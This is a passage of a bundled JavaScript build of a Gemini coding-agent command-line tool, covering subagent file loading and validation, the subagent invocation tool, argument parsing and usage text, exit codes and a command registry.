/** Fills `${name}` placeholders; one without a value is left as written. */
function fillTemplate(text, values) {
    return text.replace(PLACEHOLDER, (whole, name) => {
        if (!Object.hasOwn(values, name))
            return whole;
        const value = values[name];
        return typeof value === 'string' ? value : JSON.stringify(value);
    });
}
/** The first message when a definition has neither `query` nor `buildQuery`: every input. */
function defaultQuery(inputs) {
    const lines = Object.entries(inputs).map(([key, value]) => `${key}: ${typeof value === 'string' ? value : JSON.stringify(value)}`);
    return lines.length === 0 ? 'Get started.' : lines.join('\n');
}


/***/ }),

/***/ 50753:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   Gi: () => (/* binding */ extensionAgentsFolder),
/* harmony export */   L2: () => (/* binding */ loadAgents),
/* harmony export */   o3: () => (/* binding */ PROJECT_AGENT_FILES),
/* harmony export */   uG: () => (/* binding */ projectAgentsFolder)
/* harmony export */ });
/* unused harmony exports AGENT_FILE_PLACEHOLDERS, loadAgentFolders, parseAgentFile */
/* harmony import */ var node_fs_promises__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(51455);
/* harmony import */ var node_fs_promises__WEBPACK_IMPORTED_MODULE_0___default = /*#__PURE__*/__webpack_require__.n(node_fs_promises__WEBPACK_IMPORTED_MODULE_0__);
/* harmony import */ var node_path__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(76760);
/* harmony import */ var node_path__WEBPACK_IMPORTED_MODULE_1___default = /*#__PURE__*/__webpack_require__.n(node_path__WEBPACK_IMPORTED_MODULE_1__);
/* harmony import */ var yaml__WEBPACK_IMPORTED_MODULE_2__ = __webpack_require__(38815);
/* harmony import */ var zod__WEBPACK_IMPORTED_MODULE_5__ = __webpack_require__(41514);
/* harmony import */ var _platform_errors_js__WEBPACK_IMPORTED_MODULE_3__ = __webpack_require__(46316);
/* harmony import */ var _agent_definition_js__WEBPACK_IMPORTED_MODULE_4__ = __webpack_require__(65457);
/**
 * Subagents from Markdown files, in the Gemini CLI's format (docs/core/subagents.md; the loader
 * packages/core/src/agents/agentLoader.ts): a file `<folder>/<name>.md` starts with YAML
 * frontmatter between `---` lines — `name`, `description`, optionally `kind: local`,
 * `display_name`, `tools`, `model`, `temperature`, `max_turns`, `timeout_mins` — and its body is
 * the agent's system prompt. The main agent passes it one input, `query`.
 *
 * As in the Gemini CLI: only the folder's top-level `*.md` files are read, files starting with
 * `_` are skipped, a missing folder is no error, unknown keys are errors (the schema is strict,
 * so the docs' `mcpServers` spelling is refused), and the defaults are 30 turns, 10 minutes and
 * the main session's model. Unlike it, a `${placeholder}` the agent cannot fill is an error
 * when the file is loaded rather than when the agent runs, and `temperature` left unset keeps
 * the model table's settings. A file that does not load is reported with its file, line and
 * column, and the other agents still load.
 */






/** Files larger than this are not agent definitions. */
const MAX_FILE_BYTES = 256 * 1024;
/** The Gemini CLI's frontmatter pattern. */
const FRONTMATTER = /^---\r?\n([\s\S]*?)\r?\n---(?:\r?\n([\s\S]*))?$/;
/** What the body may hold in `${…}`: the agent's input, and values the executor fills. */
const AGENT_FILE_PLACEHOLDERS = ['query', 'today', 'activeModel'];
const TOOL_ENTRY = /^(?:\*|mcp_\*|mcp_[A-Za-z0-9_.:-]+_\*|[A-Za-z_][A-Za-z0-9_.:-]*)$/;
const frontmatterSchema = zod__WEBPACK_IMPORTED_MODULE_5__/* .strictObject */ .rej({
    kind: zod__WEBPACK_IMPORTED_MODULE_5__/* .literal */ .euz('local', {
        error: 'only local agents are supported here (kind: local); remote (A2A) agents are not',
    })
        .optional(),
    name: zod__WEBPACK_IMPORTED_MODULE_5__/* .string */ .YjP().regex(_agent_definition_js__WEBPACK_IMPORTED_MODULE_4__/* .AGENT_NAME_PATTERN */ .DH, `expected ${_agent_definition_js__WEBPACK_IMPORTED_MODULE_4__/* .AGENT_NAME_RULE */ .lH}`),
    description: zod__WEBPACK_IMPORTED_MODULE_5__/* .string */ .YjP().trim().min(1, 'expected a description of what the agent does'),
    display_name: zod__WEBPACK_IMPORTED_MODULE_5__/* .string */ .YjP().trim().min(1).optional(),
    tools: zod__WEBPACK_IMPORTED_MODULE_5__/* .array */ .YOg(zod__WEBPACK_IMPORTED_MODULE_5__/* .string */ .YjP()
        .regex(TOOL_ENTRY, 'expected a tool name, or a wildcard (*, mcp_*, mcp_<server>_*)'))
        .optional(),
    mcp_servers: zod__WEBPACK_IMPORTED_MODULE_5__/* .unknown */ .L5J()
        .refine(() => false, {
        message: "servers of an agent's own are not supported here; declare them in .gemini/settings.json and name their tools in tools",
    })
        .optional(),
    model: zod__WEBPACK_IMPORTED_MODULE_5__/* .string */ .YjP().trim().min(1).optional(),
    temperature: zod__WEBPACK_IMPORTED_MODULE_5__/* .number */ .aig().min(0).max(2).optional(),
    max_turns: zod__WEBPACK_IMPORTED_MODULE_5__/* .number */ .aig().int().positive().optional(),
    timeout_mins: zod__WEBPACK_IMPORTED_MODULE_5__/* .number */ .aig().positive().optional(),
});
/** The repository's agent files, as the base-branch copy names them. */
const PROJECT_AGENT_FILES = '.gemini/agents/*.md';
/**
 * The repository's agents folder under a configuration root: the workspace, or on a pull request
 * the copy of the base branch's files (a contributor's agent cannot run with the Action's trust
 * before it is merged; the Gemini CLI asks a person to acknowledge new project agents instead).
 */
function projectAgentsFolder(configRoot) {
    return { path: node_path__WEBPACK_IMPORTED_MODULE_1___default().join(configRoot, '.gemini', 'agents'), shownAs: '.gemini/agents' };
}
/**
 * An extension's agents folder: `agents/*.md` in the extension's root, as the Gemini CLI loads
 * them (docs/extensions/reference.md "Sub-agents"), read from `directory` (on a pull request the
 * base branch's copy of a repository extension) and shown as `<shownAs>/agents`. They come after
 * the built-in and the repository's agents, so an extension cannot replace one of those.
 */
function extensionAgentsFolder(directory, shownAs) {
    return { path: node_path__WEBPACK_IMPORTED_MODULE_1___default().join(directory, 'agents'), shownAs: `${shownAs}/agents` };
}
/**
 * The agents of these folders (the repository's, then extensions'), for `startAgent`. A file that
 * does not load is a warning naming its file, line and column; the others are still offered.
 */
async function loadAgents(folders, logger) {
    const loaded = await loadAgentFolders(folders);
    for (const problem of loaded.problems) {
        logger.warning(`The agent file was not loaded: ${problem.message}`);
    }
    if (loaded.agents.length > 0) {
        logger.info(`Agents: ${loaded.agents.map((agent) => `${agent.name} (${agent.source})`).join(', ')}.`);
    }
    return loaded.agents;
}
/** Reads the agent files of each folder, in order; `problems` holds the files that failed. */
async function loadAgentFolders(folders) {
    const loaded = { agents: [], problems: [] };
    for (const folder of folders) {
        let names;
        try {
            names = await (0,node_fs_promises__WEBPACK_IMPORTED_MODULE_0__.readdir)(folder.path);
        }
        catch (error) {
            if ((0,_platform_errors_js__WEBPACK_IMPORTED_MODULE_3__/* .isMissingPathError */ .Sr)(error))
                continue;
            loaded.problems.push(new _platform_errors_js__WEBPACK_IMPORTED_MODULE_3__/* .ConfigurationError */ .j1(`the agents folder cannot be read: ${(0,_platform_errors_js__WEBPACK_IMPORTED_MODULE_3__/* .errorMessage */ .gJ)(error)}`, {
                file: folder.shownAs ?? folder.path,
            }));
            continue;
        }
        for (const name of names
            .filter((entry) => entry.endsWith('.md') && !entry.startsWith('_'))
            .sort()) {
            const file = node_path__WEBPACK_IMPORTED_MODULE_1___default().join(folder.path, name);
            const shown = folder.shownAs === undefined ? file : `${folder.shownAs}/${name}`;
            try {
                const info = await (0,node_fs_promises__WEBPACK_IMPORTED_MODULE_0__.lstat)(file);
                // Not a regular file (a folder, a link out of the repository): not an agent file.
                if (!info.isFile())
                    continue;
                if (info.size > MAX_FILE_BYTES) {
                    throw new _platform_errors_js__WEBPACK_IMPORTED_MODULE_3__/* .ConfigurationError */ .j1(`larger than ${MAX_FILE_BYTES} bytes: not an agent file.`, {
                        file: shown,
                    });
                }
                loaded.agents.push(parseAgentFile(await (0,node_fs_promises__WEBPACK_IMPORTED_MODULE_0__.readFile)(file, 'utf8'), shown));
            }
            catch (error) {
                loaded.problems.push(error instanceof _platform_errors_js__WEBPACK_IMPORTED_MODULE_3__/* .ConfigurationError */ .j1
                    ? error
                    : new _platform_errors_js__WEBPACK_IMPORTED_MODULE_3__/* .ConfigurationError */ .j1((0,_platform_errors_js__WEBPACK_IMPORTED_MODULE_3__/* .errorMessage */ .gJ)(error), { file: shown }));
            }
        }
    }
    return loaded;
}
/** One agent file's definition; a `ConfigurationError` at the file, line and column at fault. */
function parseAgentFile(text, file) {
    const match = FRONTMATTER.exec(text);
    const yamlText = match?.[1];
    if (match === null || yamlText === undefined) {
        throw new _platform_errors_js__WEBPACK_IMPORTED_MODULE_3__/* .ConfigurationError */ .j1('expected the agent file to start with YAML frontmatter between "---" lines (name, description, …), followed by the system prompt.', { file, line: 1, column: 1 });
    }
    // The frontmatter starts on the file's second line.
    const yamlLine = 2;
    const lineCounter = new yaml__WEBPACK_IMPORTED_MODULE_2__/* .LineCounter */ .HN();
    const document = (0,yaml__WEBPACK_IMPORTED_MODULE_2__/* .parseDocument */ .Tp)(yamlText, { lineCounter, prettyErrors: false });
    const at = (offset) => {
        const position = lineCounter.linePos(offset);
        return { file, line: position.line + yamlLine - 1, column: position.col };
    };
    const yamlError = document.errors[0];
    if (yamlError !== undefined) {
        throw new _platform_errors_js__WEBPACK_IMPORTED_MODULE_3__/* .ConfigurationError */ .j1(`the frontmatter is not valid YAML: ${yamlError.message}`, at(yamlError.pos[0]));
    }
    if (!(0,yaml__WEBPACK_IMPORTED_MODULE_2__/* .isMap */ .jh)(document.contents)) {
        throw new _platform_errors_js__WEBPACK_IMPORTED_MODULE_3__/* .ConfigurationError */ .j1('expected the frontmatter to be a YAML mapping (name: …, description: …); a list defines remote agents, which are not supported here.', { file, line: yamlLine, column: 1 });
    }
    const parsed = frontmatterSchema.safeParse(document.toJS());
    if (!parsed.success) {
        const issue = parsed.error.issues[0];
        const keys = issue?.code === 'unrecognized_keys' ? issue.keys : [];
        const where = keys.length > 0
            ? keyOffset(document, keys[0] ?? '')
            : nodeOffset(document, issue?.path ?? []);
        const field = issue?.path.join('.') ?? '';
        const missing = issue !== undefined && issue.path.length === 1 && !document.has(issue.path[0]);
        const message = keys.length > 0
            ? `unknown field ${keys.map((key) => `"${key}"`).join(', ')}; expected kind, name, description, display_name, tools, model, temperature, max_turns or timeout_mins`
            : missing
                ? `${field}: required, but the frontmatter has none`
                : `${field === '' ? 'frontmatter' : field}: ${issue?.message ?? 'invalid'}`;
        throw new _platform_errors_js__WEBPACK_IMPORTED_MODULE_3__/* .ConfigurationError */ .j1(`${message}.`, at(where));
    }
    const fields = parsed.data;
    const body = match[2] ?? '';
    const bodyStart = text.length - body.length;
    const fileAt = (offset) => filePosition(text, offset, file);
    if (body.trim() === '') {
        throw new _platform_errors_js__WEBPACK_IMPORTED_MODULE_3__/* .ConfigurationError */ .j1("expected the agent's system prompt after the frontmatter.", fileAt(bodyStart));
    }
    for (const placeholder of (0,_agent_definition_js__WEBPACK_IMPORTED_MODULE_4__/* .templatePlaceholders */ .NY)(body)) {
        if (!AGENT_FILE_PLACEHOLDERS.includes(placeholder.name)) {
            throw new _platform_errors_js__WEBPACK_IMPORTED_MODULE_3__/* .ConfigurationError */ .j1(`unknown placeholder \${${placeholder.name}}; an agent file may use ${AGENT_FILE_PLACEHOLDERS.map((name) => `\${${name}}`).join(', ')}.`, fileAt(bodyStart + placeholder.offset));
        }
    }
    return (0,_agent_definition_js__WEBPACK_IMPORTED_MODULE_4__/* .defineAgent */ .fO)({
        name: fields.name,
        displayName: fields.display_name,
        description: fields.description,
        systemPrompt: body.trim(),
        query: '${query}',
        inputSchema: zod__WEBPACK_IMPORTED_MODULE_5__/* .object */ .Ikc({
            query: zod__WEBPACK_IMPORTED_MODULE_5__/* .string */ .YjP()
                .min(1)
                .describe('The task for the agent, complete with what it needs to know.'),
        }),
        model: fields.model ?? _agent_definition_js__WEBPACK_IMPORTED_MODULE_4__/* .INHERIT_MODEL */ .I_,
        temperature: fields.temperature,
        tools: fields.tools,
        maxTurns: fields.max_turns ?? _agent_definition_js__WEBPACK_IMPORTED_MODULE_4__/* .DEFAULT_AGENT_MAX_TURNS */ .C9,
        timeoutMs: fields.timeout_mins === undefined
            ? _agent_definition_js__WEBPACK_IMPORTED_MODULE_4__/* .DEFAULT_AGENT_TIMEOUT_MS */ .pk
            : Math.round(fields.timeout_mins * 60_000),
        source: file,
    });
}
/** Where the value at `path` starts in the frontmatter (its start when it is missing). */
function nodeOffset(document, keyPath) {
    for (let depth = keyPath.length; depth > 0; depth--) {
        const node = document.getIn(keyPath.slice(0, depth), true);
        const range = node?.range;
        if (range !== undefined)
            return range[0];
    }
    return 0;
}
function keyOffset(document, key) {
    if (!(0,yaml__WEBPACK_IMPORTED_MODULE_2__/* .isMap */ .jh)(document.contents))
        return 0;
    for (const pair of document.contents.items) {
        if ((0,yaml__WEBPACK_IMPORTED_MODULE_2__/* .isScalar */ .jn)(pair.key) && pair.key.value === key)
            return pair.key.range?.[0] ?? 0;
    }
    return 0;
}
function filePosition(text, offset, file) {
    const before = text.slice(0, offset);
    const line = before.split('\n').length;
    return { file, line, column: offset - before.lastIndexOf('\n') };
}


/***/ }),

/***/ 71340:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   _: () => (/* binding */ createInvokeAgentTool),
/* harmony export */   q: () => (/* binding */ INVOKE_AGENT_TOOL_NAME)
/* harmony export */ });
/* harmony import */ var _tools_define_tool_js__WEBPACK_IMPORTED_MODULE_2__ = __webpack_require__(96511);
/* harmony import */ var _tools_tool_types_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(29285);
/* harmony import */ var zod__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(41514);



const INVOKE_AGENT_TOOL_NAME = 'invoke_agent';
const parameters = zod__WEBPACK_IMPORTED_MODULE_1__/* .object */ .Ikc({
    agent_name: zod__WEBPACK_IMPORTED_MODULE_1__/* .string */ .YjP().describe('Name of the subagent to invoke'),
    prompt: zod__WEBPACK_IMPORTED_MODULE_1__/* .string */ .YjP().describe('The complete task for the subagent, with all the context it needs.'),
});
/** `agents`: each subagent's tool and the names of its inputs. */
function createInvokeAgentTool(agents) {
    const parametersJsonSchema = (0,_tools_define_tool_js__WEBPACK_IMPORTED_MODULE_2__/* .toModelJsonSchema */ .c)(parameters);
    const description = 'Invoke a subagent to perform a specific task or investigation.';
    return {
        name: INVOKE_AGENT_TOOL_NAME,
        displayName: 'Invoke Subagent',
        description,
        kind: 'agent',
        parametersJsonSchema,
        undeclared: true,
        declaration: () => ({
            name: INVOKE_AGENT_TOOL_NAME,
            description,
            parametersJsonSchema,
        }),
        build(args) {
            const parsed = parameters.safeParse(args);
            if (!parsed.success) {
                return {
                    error: `Invalid parameters for ${INVOKE_AGENT_TOOL_NAME}: expected agent_name and prompt (strings).`,
                    type: 'invalid_tool_params',
                };
            }
            const params = parsed.data;
            const agent = agents.get(params.agent_name);
            if (agent === undefined) {
                const names = [...agents.keys()].map((name) => `'${name}'`).join(', ');
                return {
                    error: `Subagent '${params.agent_name}' not found.${names === '' ? '' : ` Available: ${names}.`}`,
                    type: 'tool_not_registered',
                };
            }
            const only = agent.inputNames.length === 1 ? agent.inputNames[0] : undefined;
            const inner = agent.tool.build({ [only ?? 'prompt']: params.prompt });
            if ((0,_tools_tool_types_js__WEBPACK_IMPORTED_MODULE_0__/* .isBuildError */ .d1)(inner))
                return inner;
            // The policy judges the call as written (with agent_name); the agent's own call runs it.
            return {
                params,
                describe: () => inner.describe(),
                locations: () => inner.locations(),
                confirmationDetails: (signal) => inner.confirmationDetails(signal),
                execute: (signal, onOutput, call) => inner.execute(signal, onOutput, call),
            };
        },
    };
}


/***/ }),

/***/ 77593:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   gH: () => (/* binding */ modelFlag),
/* harmony export */   hT: () => (/* binding */ parseCliArgs),
/* harmony export */   i3: () => (/* binding */ parseRunMode),
/* harmony export */   u_: () => (/* binding */ USAGE)
/* harmony export */ });
/* harmony import */ var node_util__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(57975);
/* harmony import */ var node_util__WEBPACK_IMPORTED_MODULE_0___default = /*#__PURE__*/__webpack_require__.n(node_util__WEBPACK_IMPORTED_MODULE_0__);
/* harmony import */ var _model_model_table_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(90109);
/* harmony import */ var _platform_errors_js__WEBPACK_IMPORTED_MODULE_2__ = __webpack_require__(46316);
/* harmony import */ var _platform_sandbox_sandbox_types_js__WEBPACK_IMPORTED_MODULE_3__ = __webpack_require__(9332);
/* harmony import */ var _platform_run_mode_js__WEBPACK_IMPORTED_MODULE_4__ = __webpack_require__(37816);





const OUTPUT_FORMATS = ['text', 'json', 'stream-json'];
const USAGE = `Usage: gemini-agent -p "<prompt>" [options]
       gemini-agent policy check FILE...
       gemini-agent commands list [--repo DIR] [--extension DIR]...
       gemini-agent policy explain --tool NAME --args JSON [--mode MODE] [--policy FILE]...
       gemini-agent run --event FILE --event-name NAME [options]   (see run --help)
       gemini-agent demo [--live] [--out DIR]                        (see demo --help)
       gemini-agent serve [--port PORT] [--repo DIR] [options]        (see serve --help)

Runs a Gemini coding agent on a repository without asking anyone: it reads, searches and
changes files in the workspace and answers with what it did.

Options:
  -p, --prompt TEXT          the task (read from standard input when piped and -p is absent);
                             "/name args" runs the custom command name (.gemini/commands/*.toml)
      --repo DIR             the workspace the agent works in (default: current directory)
  -m, --model MODEL          the model, or an alias: ${(0,_model_model_table_js__WEBPACK_IMPORTED_MODULE_1__/* .describeAliases */ .iS)()}
                             (default: $GEMINI_MODEL, then model.name in .gemini/settings.json,
                             then ${_model_model_table_js__WEBPACK_IMPORTED_MODULE_1__/* .DEFAULT_MODEL */ .UB})
      --fallback-model MODEL the model to go on with, once, when the first is not found or
                             its quota is exhausted
  -o, --output-format FMT    text | json | stream-json (default: text)
      --transcript FILE      write every agent event to FILE as JSON lines
      --max-turns N          stop after N model requests (exit code 53)
      --timeout SECONDS      stop after this much wall-clock time
      --replay FILE          answer from a recorded session ({method, response} JSON lines)
      --record FILE          record the model's responses to FILE in the same format
      --mode MODE            invoke | review | triage | maintenance (default: invoke); picks the
                             built-in policy preset (edit for invoke, read-only for review and
                             triage, maintenance for maintenance)
      --policy FILE          a policy TOML file over the preset (repeatable); the rule with the
                             highest priority decides, on a tie the one written first
      --allow-command CMD    allow shell commands starting with CMD, e.g. "npm test" (repeatable)
      --yolo                 instead of the preset, allow every call no --policy rule decides.
                             Shell commands are still checked sub-command by sub-command:
                             substitutions, wrappers, redirections and the like stay denied
      --sandbox MODE         where shell commands run: auto (default: the strongest sandbox
                             that works here; without one, a notice says so), namespace, user,
                             or none (no sandbox, no notice)
      --extension DIR        load the Gemini CLI extension in DIR (repeatable), besides the
                             repository's .gemini/extensions/<name>/
  -d, --debug                log details to standard error
  -v, --version              print the version
  -h, --help                 print this help

Every tool call is answered by the policy: nobody is asked. A call no rule allows is denied.

Authentication: GEMINI_API_KEY; or GOOGLE_GENAI_USE_VERTEXAI=true with GOOGLE_CLOUD_PROJECT and
GOOGLE_CLOUD_LOCATION; or GOOGLE_GENAI_USE_GCA=true (Code Assist). Not needed with --replay.

Exit codes: 0 done, 1 error, 41 authentication, 42 bad input, 52 configuration, 53 turn limit,
130 cancelled.
`;
function positiveInteger(flag, value) {
    if (value === undefined)
        return undefined;
    if (!/^\d+$/.test(value) || Number(value) <= 0) {
        throw new _platform_errors_js__WEBPACK_IMPORTED_MODULE_2__/* .UsageError */ .eb(`${flag} expects a positive whole number, got "${value}".`);
    }
    return Number(value);
}
function positiveNumber(flag, value) {
    if (value === undefined)
        return undefined;
    const number = Number(value);
    if (value.trim() === '' || !Number.isFinite(number) || number <= 0) {
        throw new _platform_errors_js__WEBPACK_IMPORTED_MODULE_2__/* .UsageError */ .eb(`${flag} expects a positive number of seconds, got "${value}".`);
    }
    return number;
}
/**
 * node:util refuses `--max-turns -1` as ambiguous, because the value looks like an option. A
 * negative number after a long option is meant as its value, so it is joined as `--max-turns=-1`
 * and judged like any other value, with the same message.
 */
function joinNegativeValues(argv) {
    const joined = [];
    for (let index = 0; index < argv.length; index++) {
        const word = argv[index] ?? '';
        const next = argv[index + 1];
        if (/^--[^=]+$/.test(word) && next !== undefined && /^-\.?\d/.test(next)) {
            joined.push(`${word}=${next}`);
            index++;
        }
        else {
            joined.push(word);
        }
    }
    return joined;
}
/** Parses the command line; every mistake is a one-line `UsageError` (exit code 42). */
function parseCliArgs(argv) {
    let parsed;
    try {
        parsed = (0,node_util__WEBPACK_IMPORTED_MODULE_0__.parseArgs)({
            args: joinNegativeValues(argv),
            allowPositionals: true,
            strict: true,
            options: {
                prompt: { type: 'string', short: 'p' },
                repo: { type: 'string' },
                model: { type: 'string', short: 'm' },
                'fallback-model': { type: 'string' },
                'output-format': { type: 'string', short: 'o' },
                transcript: { type: 'string' },
                'max-turns': { type: 'string' },
                timeout: { type: 'string' },
                replay: { type: 'string' },
                record: { type: 'string' },
                mode: { type: 'string' },
                policy: { type: 'string', multiple: true },
                'allow-command': { type: 'string', multiple: true },
                yolo: { type: 'boolean' },
                sandbox: { type: 'string' },
                extension: { type: 'string', multiple: true },
                debug: { type: 'boolean', short: 'd' },
                version: { type: 'boolean', short: 'v' },
                help: { type: 'boolean', short: 'h' },
            },
        });
    }
    catch (error) {
        // node:util's messages name the option but end with advice for script authors; keep the
        // first sentence and point at --help.
        const message = error instanceof Error ? error.message.split('. ')[0] : String(error);
        throw new _platform_errors_js__WEBPACK_IMPORTED_MODULE_2__/* .UsageError */ .eb(`${message}. Run "gemini-agent --help" for usage.`);
    }
    const { values, positionals } = parsed;
    const outputFormat = values['output-format'] ?? 'text';
    if (!OUTPUT_FORMATS.includes(outputFormat)) {
        throw new _platform_errors_js__WEBPACK_IMPORTED_MODULE_2__/* .UsageError */ .eb(`--output-format expects one of ${OUTPUT_FORMATS.join(', ')}, got "${outputFormat}".`);
    }
    if (values.prompt !== undefined && positionals.length > 0) {
        throw new _platform_errors_js__WEBPACK_IMPORTED_MODULE_2__/* .UsageError */ .eb(`Give the prompt either with -p or as an argument, not both (unexpected "${positionals[0] ?? ''}").`);
    }
    const prompt = values.prompt ?? (positionals.length > 0 ? positionals.join(' ') : undefined);
    if (prompt?.trim() === '') {
        throw new _platform_errors_js__WEBPACK_IMPORTED_MODULE_2__/* .UsageError */ .eb('The prompt is empty: pass the task with -p "<prompt>".');
    }
    if (values.replay !== undefined && values.record !== undefined) {
        throw new _platform_errors_js__WEBPACK_IMPORTED_MODULE_2__/* .UsageError */ .eb('--replay and --record cannot be used together.');
    }
    const sandbox = values.sandbox ?? 'auto';
    if (!_platform_sandbox_sandbox_types_js__WEBPACK_IMPORTED_MODULE_3__/* .SANDBOX_MODES */ .f.includes(sandbox)) {
        throw new _platform_errors_js__WEBPACK_IMPORTED_MODULE_2__/* .UsageError */ .eb(`--sandbox expects one of ${_platform_sandbox_sandbox_types_js__WEBPACK_IMPORTED_MODULE_3__/* .SANDBOX_MODES */ .f.join(', ')}, got "${sandbox}".`);
    }
    const allowCommands = values['allow-command'] ?? [];
    const emptyCommand = allowCommands.find((command) => command.trim() === '');
    if (emptyCommand !== undefined) {
        throw new _platform_errors_js__WEBPACK_IMPORTED_MODULE_2__/* .UsageError */ .eb('--allow-command expects a command such as "npm test", got an empty one.');
    }
    return {
        prompt,
        repo: values.repo ?? process.cwd(),
        model: modelFlag('--model', values.model),
        fallbackModel: modelFlag('--fallback-model', values['fallback-model']),
        outputFormat: outputFormat,
        transcript: values.transcript,
        maxTurns: positiveInteger('--max-turns', values['max-turns']),
        timeoutSeconds: positiveNumber('--timeout', values.timeout),
        replay: values.replay,
        record: values.record,
        debug: values.debug ?? false,
        help: values.help ?? false,
        version: values.version ?? false,
        policyFiles: values.policy ?? [],
        allowCommands,
        mode: parseRunMode('--mode', values.mode),
        yolo: values.yolo ?? false,
        sandbox: sandbox,
        extensions: values.extension ?? [],
    };
}
/** A model flag's value: a name or an alias, one word. */
function modelFlag(flag, value) {
    if (value === undefined)
        return undefined;
    if (value.trim() === '' || /\s/.test(value.trim())) {
        throw new _platform_errors_js__WEBPACK_IMPORTED_MODULE_2__/* .UsageError */ .eb(`${flag} expects a model name or an alias (${(0,_model_model_table_js__WEBPACK_IMPORTED_MODULE_1__/* .describeAliases */ .iS)()}), got "${value}".`);
    }
    return value.trim();
}
/** A run mode flag's value (default `invoke`). */
function parseRunMode(flag, value) {
    if (value === undefined)
        return 'invoke';
    if (!_platform_run_mode_js__WEBPACK_IMPORTED_MODULE_4__/* .RUN_MODES */ .P.includes(value)) {
        throw new _platform_errors_js__WEBPACK_IMPORTED_MODULE_2__/* .UsageError */ .eb(`${flag} expects one of ${_platform_run_mode_js__WEBPACK_IMPORTED_MODULE_4__/* .RUN_MODES */ .P.join(', ')}, got "${value}".`);
    }
    return value;
}


/***/ }),

/***/ 28551:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   Lo: () => (/* binding */ exitCodeForError),
/* harmony export */   Nj: () => (/* binding */ exitCodeForReason),
/* harmony export */   yU: () => (/* binding */ ExitCode)
/* harmony export */ });
/* harmony import */ var _platform_errors_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(46316);

/** The Gemini CLI's exit codes, so scripts written for it keep working. */
const ExitCode = {
    OK: 0,
    ERROR: 1,
    AUTH: 41,
    INPUT: 42,
    CONFIG: 52,
    TURN_LIMIT: 53,
    CANCELLED: 130,
};
function exitCodeForReason(reason) {
    switch (reason) {
        case 'completed':
            return ExitCode.OK;
        case 'max_turns':
            return ExitCode.TURN_LIMIT;
        case 'cancelled':
            return ExitCode.CANCELLED;
        case 'auth_error':
            return ExitCode.AUTH;
        // The model named in the configuration (a flag, a variable, settings) does not exist.
        case 'model_not_found':
            return ExitCode.CONFIG;
        default:
            return ExitCode.ERROR;
    }
}
function exitCodeForError(error) {
    if (error instanceof _platform_errors_js__WEBPACK_IMPORTED_MODULE_0__/* .AuthenticationError */ .v3)
        return ExitCode.AUTH;
    if (error instanceof _platform_errors_js__WEBPACK_IMPORTED_MODULE_0__/* .UsageError */ .eb)
        return ExitCode.INPUT;
    if (error instanceof _platform_errors_js__WEBPACK_IMPORTED_MODULE_0__/* .ConfigurationError */ .j1)
        return ExitCode.CONFIG;
    return ExitCode.ERROR;
}


/***/ }),

/***/ 27095:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   Ju: () => (/* binding */ CommandRegistry),
/* harmony export */   oj: () => (/* binding */ describeShadowing)
/* harmony export */ });
/* unused harmony export describeCommands */
class CommandRegistry {
    entries = new Map();
    shadowed = [];
    /** Every file that did not load, in load order (shadowed ones included). */
    problems = [];
    /** `folders` in precedence order, lowest first. */
    constructor(folders = []) {
        for (const folder of folders) {
            const claims = [
                ...folder.commands.map((command) => ({ kind: 'command', command })),
                ...folder.problems.map((problem) => ({ kind: 'broken', problem })),
            ];
            this.problems.push(...folder.problems);
            for (const entry of claims)
                this.claim(entry);
        }
    }
    /** The commands that can be invoked, by name. */
    list() {
        return [...this.entries.values()]
            .flatMap((entry) => (entry.kind === 'command' ? [entry.command] : []))
            .sort((a, b) => (a.name < b.name ? -1 : a.name > b.name ? 1 : 0));
    }
    lookup(name) {
        return this.entries.get(name) ?? { kind: 'unknown' };
    }
    claim(entry) {
        const name = nameOf(entry);
        const previous = this.entries.get(name);
        if (previous !== undefined) {
            this.shadowed.push({ name, winner: originOf(entry), loser: originOf(previous) });
        }
        this.entries.set(name, entry);
    }
}
/** `/name: description` lines of the commands, for a reply to an unknown command. */
function describeCommands(commands) {
    return commands.map((command) => `- \`/${command.name}\`: ${command.description}`).join('\n');
}
/** One line for the log per shadowed command. */
function describeShadowing(shadowed) {
    return `/${shadowed.name}: ${shadowed.winner.file} is used; it replaces ${shadowed.loser.file}${shadowed.loser.extension === undefined ? '' : ` (extension ${shadowed.loser.extension})`}.`;
}
function nameOf(entry) {
    return entry.kind === 'command' ? entry.command.name : entry.problem.name;
}
function originOf(entry) {
    return entry.kind === 'command' ? entry.command.origin : entry.problem.origin;
}


/***/ }),

/***/ 57520:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {


// EXPORTS
__webpack_require__.d(__webpack_exports__, {
  Aq: () => (/* binding */ expandCommand),
  bb: () => (/* binding */ plainPrompt)
});

// UNUSED EXPORTS: ARGS_PLACEHOLDER

// EXTERNAL MODULE: ./src/platform/errors.ts
var errors = __webpack_require__(46316);
// EXTERNAL MODULE: ./src/tools/run-shell-command.ts + 1 modules
var run_shell_command = __webpack_require__(85917);
// EXTERNAL MODULE: external "node:fs/promises"
var promises_ = __webpack_require__(51455);
// EXTERNAL MODULE: ./src/tools/file-walk.ts
var file_walk = __webpack_require__(2651);
// EXTERNAL MODULE: ./src/tools/read-file.ts
var read_file = __webpack_require__(61174);
;// CONCATENATED MODULE: ./src/commands/file-injection.ts




/** A directory with more files than this is not what a prompt should hold. */
const MAX_DIRECTORY_FILES = 200;
/** Nor this much text, all files together. */
const MAX_DIRECTORY_CHARS = 1_000_000;
const FILTERING = { respectGitIgnore: true, respectGeminiIgnore: true };
/** The text for `@{requested}`, or undefined when ignore rules leave it out. */
async function injectPath(requested, where, services) {
    const { workspace } = services;
    const fail = (message) => {
